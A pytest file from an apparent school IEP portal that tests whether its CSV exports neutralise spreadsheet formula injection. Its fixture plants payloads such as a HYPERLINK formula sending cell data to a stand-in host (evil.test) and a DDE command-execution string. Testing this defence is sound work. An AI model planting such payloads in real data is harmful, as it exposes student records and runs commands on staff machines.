"""No export writes a cell a spreadsheet would run as a formula.

Formulas are planted where staff type or an import carries text (a check-off note, a family
contact's summary, a session note, a support, a goal, a student's and a case manager's
names); every export is fetched and every cell is checked: none starts with = + - @ (after
leading whitespace too, or their full-width forms) or a tab or carriage return, except a
number the export wrote as a number (a running minute balance of -30).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from accommodations.models import ImplementationCheck
from iep_portal.csv_export import FORMULA_STARTS
from students.models import ParentContact
from tests.accommodations.factories import SupportFactory
from tests.iep_portal.test_export_times import every_export
from tests.progress.factories import GoalFactory
from tests.services.factories import ServiceRequirementFactory, ServiceSessionFactory

HYPERLINK = '=HYPERLINK("http://evil.test/?d="&A1,"Open the record")'
PLANTED = {
    "check-off note": HYPERLINK,
    "family summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "family member": "+1",
    "session note": "-1",
    "student first name": "-1",
    "student last name": "=1+1",
    "support": "\t=1+1",
    "goal area": "\uff1d1+1",
    "case manager name": "@SUM(A1:A9)",
}
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell.lstrip()[:1] in FORMULA_STARTS


@pytest.fixture
def planted(iep, provider, section, gen_ed_teacher, case_manager, login):  # noqa: ANN001, ANN201
    student = iep.student
    student.first_name, student.last_name = PLANTED["student first name"], PLANTED["student last name"]
    student.save(update_fields=["first_name", "last_name"])
    case_manager.first_name = PLANTED["case manager name"]
    case_manager.save(update_fields=["first_name"])
    speech = ServiceRequirementFactory(iep=iep, provider=provider, minutes=60)
    ServiceSessionFactory(requirement=speech, date=dt.date(2026, 11, 16), start_time=dt.time(9, 0),
                          note=PLANTED["session note"])
    support = SupportFactory(iep=iep, text=PLANTED["support"])
    ImplementationCheck.objects.create(support=support, student=student, section=section,
                                       date=dt.date(2026, 11, 16), teacher=gen_ed_teacher,
                                       outcome="provided", note=PLANTED["check-off note"])
    ParentContact.objects.create(student=student, staff=case_manager, contacted_on=dt.date(2026, 11, 16),
                                 channel=ParentContact.Channel.choices[0][0],
                                 family_member=PLANTED["family member"], summary=PLANTED["family summary"])
    GoalFactory(iep=iep, area=PLANTED["goal area"])
    login(provider).get(f"/students/{student.pk}/")  # a read, for the access log
    return iep


def test_no_export_writes_a_formula(planted, login, district_admin) -> None:  # noqa: ANN001
    exports = every_export(login(district_admin), planted.student)
    cells = {name: [cell for row in csv.reader(io.StringIO(text)) for cell in row]
             for name, text in exports.items()}
    faults = [f"{name}: {cell!r}" for name, found in cells.items() for cell in found
              if _formula(cell) and not NUMBER.match(cell)]
    assert not faults, "\n".join(faults)

    every_cell = [cell for found in cells.values() for cell in found]
    for where, payload in PLANTED.items():
        # Each planted text reached some export, and only ever with its quote.
        assert any(cell.startswith("'" + payload) for cell in every_cell), where
        assert payload not in every_cell, where
    # A number the export writes as a number stays one: the minute balance runs negative.
    weeks = list(csv.DictReader(io.StringIO(exports["evidence minutes_by_week.csv"])))
    assert any(NUMBER.match(w["running balance"]) and w["running balance"].startswith("-")
               for w in weeks), weeks
